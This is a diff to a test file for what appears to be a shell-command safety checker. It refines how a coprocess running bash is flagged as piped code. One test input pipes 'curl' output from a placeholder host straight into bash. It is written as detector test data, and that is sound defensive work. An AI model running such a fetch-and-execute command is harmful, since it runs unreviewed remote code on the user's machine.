@@ -9,7 +9,7 @@ import { runCli, withSandbox } from '../../support/hookHarness';
 
 function check(sb: Parameters<Parameters<typeof withSandbox>[0]>[0], command: string) {
   const r = runCli(sb, ['check', '--json', '--', command]);
-  return JSON.parse(r.stdout) as { decision: string; findings: { id: string }[] };
+  return JSON.parse(r.stdout) as { decision: string; findings: { id: string; summary: string }[] };
 }
 
 test('a shell run as a coprocess asks; filters and shells given their command stay quiet', async () => {
@@ -26,6 +26,11 @@ test('a shell run as a coprocess asks; filters and shells given their command st
         `${command}: ${r.findings.map((f) => f.id)}`,
       );
     }
+    // The finding says where the code comes from: what later commands write, not a program named `>&${COPROC[1]}`.
+    const said = check(sb, 'coproc bash').findings.find((f) => f.id === 'exec.piped-code');
+    assert.equal(said?.summary, 'runs whatever later commands write to it as code with bash');
+    const piped = check(sb, 'curl -s https://x.example/i | bash').findings.find((f) => f.id === 'exec.piped-code');
+    assert.ok(!piped || piped.summary.includes("'curl"), piped?.summary);
     for (const command of ['coproc cat', 'coproc bc -l', `coproc bash -c 'sleep 1; echo done'`])
       assert.equal(check(sb, command).decision, 'allow', command);
   });
